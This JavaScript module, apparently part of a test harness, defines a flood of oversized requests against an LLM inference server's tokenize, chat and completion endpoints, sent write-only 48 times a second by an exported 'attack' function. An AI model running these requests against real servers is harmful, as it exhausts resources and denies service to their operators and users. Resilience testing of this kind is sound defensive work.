// Texts that are as long as may be, prompts without end, and requests that a plan is made for in vain.
import { again, post, writeOnly } from "../sockets.mjs";

export const node = { state: "STOPPED" };
/** No commands, which would close the gate. */
export const honest =
  "status,status on a connection of its own,page,batch,WebSocket call,documents,proof,chat";

const LONG = "é".repeat(60_000);
const REQUESTS = [
  post("/tokenize", { prompt: LONG, return_token_strs: true }),
  post("/v1/chat/completions", { messages: [{ role: "user", content: LONG }], max_tokens: 1 }),
  post("/v1/completions", { prompt: Array(128).fill("a".repeat(4000)), n: 128 }),
  post("/v1/completions", { prompt: Array(100).fill("a".repeat(4000)), max_tokens: 1 }),
  post("/v1/chat/completions", {
    messages: Array.from({ length: 4096 }, () => ({ role: "user", content: "a" })),
  }),
  post("/v1/chat/completions", {
    messages: [{ role: "user", content: "a" }],
    chat_template_kwargs: { x: Array.from({ length: 99_000 }, () => 0) },
  }),
];

export const attack = (target) =>
  again({ count: 48, milliseconds: 1000 }, (number) =>
    writeOnly(target, REQUESTS[number % REQUESTS.length]),
  );
